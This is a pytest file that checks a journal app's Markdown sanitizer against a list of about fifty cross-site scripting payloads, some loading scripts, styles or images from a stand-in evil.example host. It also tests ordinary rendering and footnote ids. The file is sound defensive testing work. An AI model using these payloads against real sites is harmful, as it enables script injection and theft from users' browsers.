"""The one Markdown → sanitized HTML path: what it keeps, and what it never lets through.

Safety is checked by parsing the stored HTML the way a browser would (html5lib), not by
searching strings, so an encoded or oddly spaced attack cannot hide from the check.
"""

import re

import html5lib
import pytest

from journal.markdown import render_markdown
from tests.factories import make_entry

ALLOWED_SCHEMES = {"http", "https", "mailto"}
FORBIDDEN_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "img", "image", "video", "audio", "source", "picture", "style", "link", "meta", "base",
    "form", "input", "button", "textarea", "select", "template", "noscript", "marquee",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ent</a>',
    '<a href="&#x6A;avascript:alert(1)">hex</a>',
    '<a href="javascript&colon;alert(1)">colon</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox)",
    '[click](http://ok.example "title" onclick="alert(1)")',
    "![x](javascript:alert(1))",
    '![x](http://evil.example/pixel.png "tracker")',
    "[![x](http://evil.example/i.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[link][a]",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</span>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    "<!--<script>alert(1)</script>-->",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '<a href="http://ok.example" target="_blank" onclick="steal()">ok</a>',
    '<table><tr><td background="javascript:alert(1)">cell</td></tr></table>',
    '"><script>alert(1)</script>',
    "<<script>script>alert(1)<</script>/script>",
    '<a href="//evil.example/">scheme-relative</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<marquee onstart=alert(1)>x</marquee>",
]


def parsed(html: str):
    return html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)


def _scheme(url: str) -> str | None:
    cleaned = "".join(ch for ch in url if ch.isprintable() and not ch.isspace()).lower()
    if ":" in cleaned.split("/", 1)[0]:
        return cleaned.split(":", 1)[0]
    return None


def assert_safe(html: str) -> None:
    root = parsed(html)
    body = root.find("body")
    for element in body.iter():
        tag = element.tag.lower() if isinstance(element.tag, str) else ""
        assert tag not in FORBIDDEN_ELEMENTS, f"<{tag}> survived in {html!r}"
        for name, value in element.attrib.items():
            lowered = name.lower()
            assert not lowered.startswith("on"), f"event handler {name} in {html!r}"
            assert lowered != "style", f"style attribute in {html!r}"
            assert lowered not in {"srcdoc", "target", "formaction"}, f"{name} in {html!r}"
            if lowered in URL_ATTRIBUTES:
                scheme = _scheme(value)
                assert scheme is None or scheme in ALLOWED_SCHEMES, f"{value!r} in {html!r}"


def test_there_are_at_least_forty_payloads():
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload):
    assert_safe(render_markdown(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised_inside_markdown_structures(payload):
    for wrapped in (
        f"> {payload}",
        f"- {payload}",
        f"**{payload}**",
        f"| a |\n|---|\n| {payload} |",
    ):
        assert_safe(render_markdown(wrapped))


@pytest.mark.django_db
def test_stored_html_is_what_the_page_shows_and_is_safe(alice_client, alice):
    entry = make_entry(alice, body="\n\n".join(PAYLOADS))
    assert_safe(entry.body_html)
    page = alice_client.get(entry.get_absolute_url())
    assert entry.body_html in page.text


def test_everyday_markdown_renders():
    html = render_markdown(
        "# Morning\n\nI felt *afraid* and **hopeful**.\n\n- tea\n- a walk\n\n"
        "1. breathe\n2. write\n\n> what you resist persists\n\n"
        "[a link](https://example.org) and https://example.com/bare\nsecond line"
    )
    root = parsed(html).find("body")
    assert root.find("h2").text == "Morning"  # the page's title is the only h1
    assert root.find(".//em").text == "afraid"
    assert root.find(".//strong").text == "hopeful"
    assert [li.text for li in root.find("ul")] == ["tea", "a walk"]
    assert [li.text for li in root.find("ol")] == ["breathe", "write"]
    assert root.find("blockquote") is not None
    links = {a.get("href"): a.get("rel") for a in root.iter("a")}
    assert links == {
        "https://example.org": "nofollow noopener noreferrer",
        "https://example.com/bare": "nofollow noopener noreferrer",
    }
    assert root.find(".//br") is not None  # a single newline is a line break, as typed


def test_images_become_links_so_nothing_is_fetched():
    root = parsed(render_markdown("![our beach](https://photos.example/beach.jpg)")).find("body")
    assert root.find(".//img") is None
    link = root.find(".//a")
    assert link.get("href") == "https://photos.example/beach.jpg"
    assert link.text == "[image: our beach]"


def test_code_and_tables_render_without_inline_styles():
    html = render_markdown("```python\nx = 1 < 2\n```\n\n| a | b |\n|:--|--:|\n| 1 | 2 |")
    root = parsed(html).find("body")
    assert root.find(".//code").get("class") == "language-python"
    assert root.find(".//code").text == "x = 1 < 2\n"
    assert root.find(".//th").get("align") == "left"
    assert "style" not in html


def test_empty_body_renders_to_nothing():
    assert render_markdown("") == ""


def test_what_imported_journals_write_renders_as_its_author_meant():
    """Strikethrough, task lists and footnotes, as Day One, Obsidian and GitHub write them;
    the sanitizer lets through exactly what they make."""
    html = render_markdown(
        "~~Called~~ texted instead.\n\n- [ ] breathe\n- [x] walk\n\n"
        "A dream[^1], again[^later].\n\n[^1]: The third this month.\n[^later]: *Still* there."
    )
    assert "<del>Called</del> texted instead." in html
    assert "<li>\u2610 breathe</li>" in html and "<li>\u2611 walk</li>" in html
    refs = re.findall(
        r'<sup id="(fnref-[0-9a-f]{6}-\d)"><a class="footnote-ref" href="#(fn-[^"]+)">', html
    )
    notes = re.findall(r'<li id="(fn-[0-9a-f]{6}-\d)">', html)
    assert [target for _, target in refs] == notes and len(notes) == 2
    assert '<div class="footnote">' in html and "<em>Still</em> there." in html
    assert f'href="#{refs[0][0]}"' in html  # the way back to the text
    # Another text's footnotes get other ids: two entries on one page never share one.
    other = render_markdown("Elsewhere[^1].\n\n[^1]: Another note.")
    assert not set(re.findall(r'id="([^"]+)"', other)) & set(notes)
    # The same text always renders the same.
    assert render_markdown("Elsewhere[^1].\n\n[^1]: Another note.") == other


def test_ids_and_classes_are_only_those_footnotes_make():
    html = render_markdown(
        '<sup id="top">x</sup> <div class="note" id="fn:1">y</div> '
        '<a class="button" href="#x">z</a> <li id="fn-abcdef-1 evil">w</li>'
    )
    assert "id=" not in html and "class=" not in html
